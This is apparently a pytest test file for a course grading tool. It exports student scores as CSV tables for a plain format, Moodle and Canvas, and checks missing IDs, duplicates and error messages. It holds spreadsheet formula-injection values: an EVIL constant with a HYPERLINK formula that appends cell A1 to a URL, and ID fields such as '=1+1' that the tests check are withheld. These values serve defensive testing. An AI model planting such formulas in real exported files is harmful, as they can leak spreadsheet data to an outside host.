"""Tables for other systems: their columns, no formulas, and nobody who is not decided."""

import csv
import io
import warnings

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # nbgrader's own, while it is imported
    from lmcourse.grading.errors import MisuseError
    from lmcourse.grading.reports import lms_files

ROWS = [
    {"student": "ada", "score": 27.5, "open": False},
    {"student": "ben", "score": 3.0, "open": True},
    {"student": "cleo", "score": None, "open": False},
    {"student": "dan", "score": 0.0, "open": False},
]
EVIL = '=HYPERLINK("http://x"&A1)'


def ids(tmp_path, text, kind):
    path = tmp_path / "ids.csv"
    path.write_text(text, "utf-8")
    return lms_files.read_ids(path, kind)


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def test_plain_holds_what_is_decided_and_says_who_is_not():
    text, left_out = lms_files.table("plain", "tiny", 30.0, ROWS, None)
    assert rows(text) == [
        ["student", "tiny", "maximum"],
        ["ada", "27.5", "30"],
        ["dan", "0", "30"],
    ]
    assert left_out == ["ben: waits for a person", "cleo: not graded"]


def test_moodle_knows_people_by_their_address(tmp_path):
    known = ids(tmp_path, "\ufeffstudent,email\nada,Ada@x.org\n", "moodle")
    text, left_out = lms_files.table("moodle", "tiny", 30.0, ROWS, known)
    assert rows(text) == [["Email address", "tiny"], ["Ada@x.org", "27.5"]]
    assert left_out[-1] == "dan: not in the table of ids"


def test_canvas_has_its_five_columns_and_a_row_of_points(tmp_path):
    table = 'student,name,id,section,sis_login_id\nada,"Love, Ada",17,A,al\ndan,Dan,18,A,d\n'
    text, _ = lms_files.table("canvas", "tiny (99)", 30.0, ROWS, ids(tmp_path, table, "canvas"))
    assert rows(text) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "tiny (99)"],
        ["    Points Possible", "", "", "", "", "30"],
        ["Love, Ada", "17", "", "al", "A", "27.5"],
        ["Dan", "18", "", "d", "A", "0"],
    ]


@pytest.mark.parametrize("kind", ["moodle", "canvas"])
def test_a_platform_gets_what_it_calls_people_to_the_letter_or_nothing(tmp_path, kind):
    table = 'student,email,name,id,section\nada,a@x.org,"Löwe, Ada",17,A\ndan,=d@x.org,=1+1,18,A\n'
    text, left_out = lms_files.table(kind, "tiny", 30.0, ROWS, ids(tmp_path, table, kind))
    assert ("a@x.org" in text, "Löwe, Ada" in text) == (kind == "moodle", kind == "canvas")
    assert "'" not in text
    assert "may pass for a formula" in left_out[-1]


@pytest.mark.parametrize("kind", ["moodle", "canvas"])
@pytest.mark.parametrize("other", ["", "A@x.org"])
def test_nobody_s_points_go_to_nobody_or_to_another(tmp_path, kind, other):
    """`ben` waits for a person: his address is his all the same."""
    table = f"student,email,name,id,section\nada,{other},Ada,{other},A\n"
    table += "ben,a@x.org,Ben,a@x.org,A\ndan,d@x.org,Dan,18,A\n"
    known = ids(tmp_path, table, kind)
    text, left_out = lms_files.table(kind, "tiny", 30.0, ROWS, known)
    key = "email" if kind == "moodle" else "id"
    said = "another student's too: A@x.org" if other else "empty"
    assert left_out[0] == f"ada: {key} in the table of ids is {said}"
    assert set(lms_files.faults(kind, known)) == ({"ada", "ben"} if other else {"ada"})
    assert [row[-1] for row in rows(text)][-1] == "0"
    assert "27.5" not in text


def test_what_is_missing_is_said(tmp_path):
    with pytest.raises(MisuseError, match="moodle knows nobody by your names: give --ids FILE"):
        lms_files.table("moodle", "tiny", 30.0, ROWS, None)
    with pytest.raises(MisuseError, match=r"email is missing: its first line says student, mail"):
        ids(tmp_path, "student,mail\nada,a\n", "moodle")
    with pytest.raises(MisuseError, match="each student once, got 'ada' twice"):
        ids(tmp_path, "student,email\nada,a\nada,b\n", "moodle")
    with pytest.raises(MisuseError, match="cannot be read as CSV"):
        lms_files.read_ids(tmp_path / "nowhere.csv", "plain")
    (tmp_path / "ids.csv").write_bytes(b"\xff\xfe")
    with pytest.raises(MisuseError, match="cannot be read as CSV"):
        lms_files.read_ids(tmp_path / "ids.csv", "plain")
